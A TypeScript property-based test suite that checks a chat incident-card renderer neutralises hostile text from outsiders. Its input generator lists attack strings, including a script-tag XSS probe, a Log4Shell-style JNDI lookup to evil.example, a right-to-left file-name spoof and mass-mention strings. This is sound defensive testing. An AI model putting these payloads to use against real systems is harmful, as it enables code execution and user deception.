import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { announcement } from '../../src/cards/announcement.ts';
import type { Card, Rich } from '../../src/cards/card.ts';
import { incidentCard } from '../../src/cards/incident-card.ts';
import { incidentListCard } from '../../src/cards/list-cards.ts';
import { plainText } from '../../src/cards/plain-text.ts';
import { reportCard } from '../../src/cards/report-card.ts';
import { stormCard } from '../../src/cards/storm-card.ts';
import { whyCard } from '../../src/cards/why-card.ts';
import { hostileViews } from './hostile-views.ts';
import { EN, OPENED, ZH, incident, storm } from './sample.ts';

/** What strangers write into labels, annotations, chat names and reasons. */
const hostile = fc.oneof(
  fc.constantFrom(
    '<at id=all></at>',
    '@everyone @all <!channel>',
    '[x](http://evil.example)',
    '<script>alert(1)</script>',
    '**bold** _i_ `code`',
    '\u202Egnp.exe\u2066',
    '__proto__',
    'constructor',
    '故障'.repeat(3000),
    '\u200B\u0000\u001B[31m\r\n',
    '${jndi:ldap://evil.example}',
    'lark://applink?x',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
);
const { incidents, views } = hostileViews(hostile);

const NONE = { critical: 0, warning: 0, info: 0 };
const REPORT = { kind: 'daily', from: OPENED, to: OPENED + 86_400_000, opened: NONE, resolved: NONE } as const;

/** Every value under a key of this name, anywhere inside. */
function under(key: string, value: unknown): readonly unknown[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => [...(name === key ? [inner] : []), ...under(key, inner)]);
}

/** Every string anywhere inside. */
function strings(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(strings) : [];
}

/** Everything in what was made that a stranger could use against its reader. */
function harms(made: Card | Rich): readonly unknown[] {
  const hosts = under('host', made);
  const misleading = under('url', made).filter((address) => {
    const { protocol, username, password, host } = new URL(String(address));
    return !['http:', 'https:'].includes(protocol) || username + password !== '' || !hosts.includes(host);
  });
  const trickery = strings(made).filter(
    (text) =>
      /[\p{Cc}\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/u.test(text) ||
      !text.isWellFormed() ||
      text.length > 2000,
  );
  return [...under('mention', made), ...misleading, ...trickery];
}

describe('text of strangers', () => {
  it('can be nothing but text in an incident card, and never breaks one', () => {
    fc.assert(
      fc.property(views, fc.constantFrom(ZH, EN), (view, context) => {
        const card = incidentCard(view, context);
        expect(harms(card)).toEqual([]);
        expect(incidentCard(structuredClone(view), context)).toEqual(card);
        expect(JSON.stringify(card).length).toBeLessThan(60_000);
        for (const value of under(
          'value',
          card.blocks.filter(({ kind }) => kind === 'buttons'),
        )) {
          expect(value).toMatchObject({ incident_id: 'INC-20261122-042', rev: 7 });
        }
      }),
    );
  });

  it('can be nothing but text in storms, lists, reports, why and announcements', () => {
    fc.assert(
      fc.property(fc.array(incidents, { maxLength: 4 }), views, hostile, (listed, view, text) => {
        const place = {
          target: text,
          shownRevision: 0,
          wantedRevision: 1,
          attempts: 1,
          parkedReason: text,
          lastError: text,
        };
        const attempt = { at: OPENED, target: text, verb: text, outcome: text, latencyMs: 1, error: text };
        const { incident: subject, timeline } = view;
        const made = [
          stormCard(storm({ listed }), ZH),
          incidentListCard(listed, EN),
          reportCard({ ...REPORT, noisiest: [{ title: text, count: 3 }] }, EN),
          whyCard({ incident: subject, places: [place], attempts: [attempt], timeline }, ZH),
          announcement({ incident: subject, reason: 'assigned', mentions: [] }, EN),
          announcement({ incident: subject, reason: 'resolved', mentions: [] }, EN),
        ];
        expect(made.flatMap(harms)).toEqual([]);
      }),
    );
  });

  it('stays on its line in the text form', () => {
    const card = incidentCard(
      { incident: incident({ title: 'a\n@everyone\r\nb' }), alerts: [], hints: [], timeline: [] },
      ZH,
    );
    expect(plainText(card).split('\n')[0]).toBe('严重 · a @everyone b');
  });
});
